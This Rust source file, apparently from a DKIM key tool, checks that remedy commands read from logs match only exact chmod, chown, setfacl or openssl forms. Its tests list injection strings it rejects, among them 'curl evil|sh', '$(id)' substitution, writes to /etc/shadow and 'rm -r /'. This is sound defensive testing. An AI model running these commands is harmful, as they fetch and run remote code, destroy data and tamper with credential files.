//! The command in a remedy for a key file. It may stand in a log line, and any local user can write
//! one with logger(1), so only the very forms that dkimd writes pass: one known command for one file.

use std::borrow::Cow;

use super::safe::shell_word;

/// What `chmod` is told in remedies.
const MODES: [&str; 4] = ["600", "o-w", "g-w", "a+x"];
/// What follows a `chown` that may not be enough.
pub const ALSO_CHECK: &str =
    ", and check what else guards it (SELinux, AppArmor, a network file system)";

/// The command in a remedy; `None` if the remedy is in words, or no command of dkimd's.
pub fn command(remedy: &str) -> Option<&str> {
    let command = remedy.strip_suffix(ALSO_CHECK).unwrap_or(remedy);
    (is_chmod(command) || is_chown(command) || is_decryption(command) || is_acl_removal(command))
        .then_some(command)
}

/// `chmod MODE PATH`
fn is_chmod(command: &str) -> bool {
    command
        .strip_prefix("chmod ")
        .and_then(|rest| rest.split_once(' '))
        .is_some_and(|(mode, path)| MODES.contains(&mode) && is_path(path))
}

/// `chown USER PATH`, or that `&& chmod 600 PATH` of the same file
fn is_chown(command: &str) -> bool {
    let Some((user, rest)) = command.strip_prefix("chown ").and_then(first_word) else {
        return false;
    };
    let Some((path, rest)) = rest.strip_prefix(' ').and_then(first_word) else {
        return false;
    };
    let plain_user = user
        .strip_prefix(|c: char| c.is_ascii_alphanumeric() || c == '_')
        .is_some_and(|rest| {
            rest.chars()
                .all(|c| c.is_ascii_alphanumeric() || "_-.@".contains(c))
        });
    plain_user && is_path(path) && (rest.is_empty() || rest == format!(" && chmod 600 {path}"))
}

/// `setfacl -b PATH`
fn is_acl_removal(command: &str) -> bool {
    command.strip_prefix("setfacl -b ").is_some_and(is_path)
}

/// `openssl pkey` that takes the passphrase off a key
fn is_decryption(command: &str) -> bool {
    command
        .strip_prefix("openssl pkey -in ")
        .and_then(first_word)
        .is_some_and(|(path, _)| is_path(path) && command == decryption(path))
}

fn decryption(path: &str) -> String {
    format!("openssl pkey -in {path} -out {path}.new && cat {path}.new > {path} && rm {path}.new")
}

/// Whether this is one word of a shell command that names a file from the root on.
fn is_path(word: &str) -> bool {
    first_word(word).is_some_and(|(_, rest)| rest.is_empty())
        && (word.starts_with('/') || word.starts_with("'/"))
}

/// The first word as [`shell_word`] writes one, and what follows it.
fn first_word(text: &str) -> Option<(&str, &str)> {
    let end = match text.strip_prefix('\'') {
        Some(_) => quoted_length(text)?,
        None => text.find([' ', '\'']).unwrap_or(text.len()),
    };
    let (word, rest) = text.split_at(end);
    let meant: Cow<'_, str> = match word.starts_with('\'') {
        true => word[1..word.len() - 1].replace(r"'\''", "'").into(),
        false => word.into(),
    };
    let whole = rest.is_empty() || rest.starts_with(' ');
    (whole && !meant.contains(char::is_control) && shell_word(&meant) == word)
        .then_some((word, rest))
}

/// The length of a word in single quotes, in which `'\''` stands for a quote.
fn quoted_length(text: &str) -> Option<usize> {
    const QUOTE: &str = r"'\''";
    let mut at = 1;
    loop {
        at += text[at..].find('\'')?;
        match text[at..].starts_with(QUOTE) {
            true => at += QUOTE.len(),
            false => return Some(at + 1),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_forms_that_dkimd_writes_are_taken() {
        for path in ["/etc/dkimkeys/mail.private", "/etc/my keys/a;b", "/k/it's"] {
            let word = shell_word(path);
            for remedy in [
                format!("chmod 600 {word}"),
                format!("chmod o-w {word}"),
                format!("chmod g-w {word}"),
                format!("chmod a+x {word}"),
                format!("chown root {word}"),
                format!("chown opendkim {word} && chmod 600 {word}"),
                decryption(&word),
            ] {
                assert_eq!(command(&remedy), Some(remedy.as_str()));
            }
            assert_eq!(
                command(&format!("chown opendkim {word}{ALSO_CHECK}")),
                Some(format!("chown opendkim {word}").as_str())
            );
        }
    }

    #[test]
    fn what_anybody_could_write_into_the_log_is_not_taken() {
        for remedy in [
            "chown x; curl evil|sh",
            "chown x /k; curl evil|sh",
            "chown x /k && curl evil",
            "chown x /k && chmod 600 /other",
            "chown x /k && chmod 600 /k && sh /tmp/x",
            "chown x:y /k",
            "chown -R /k",
            "chown --reference=/a /k",
            "chown x $(id)",
            "chown x `id`",
            "chown x k",
            "chmod 600 /k\ncurl evil",
            "chmod 600 '/k\n'",
            "chmod 600 '/k\x1b[2J'",
            "chmod 600 '/k'$(id)",
            "chmod 600 '/k'\\''; id",
            "chmod 600 '/k",
            "chmod 600 /k /etc/shadow",
            "chmod 600 /k>/etc/passwd",
            "chmod 600 /k&",
            "chmod 600 /k*",
            "chmod 600 ~/k",
            "chmod 4755 /k",
            "chmod -R 600 /",
            "chmod 777 /",
            "openssl pkey -in /k -engine /tmp/x.so",
            "openssl pkey -in /k -out /k.new && cat /k.new > /etc/shadow && rm /k.new",
            "openssl version",
            "dkimd doctor",
            "rm -r /",
            "",
        ] {
            assert_eq!(command(remedy), None, "{remedy:?}");
        }
    }
}
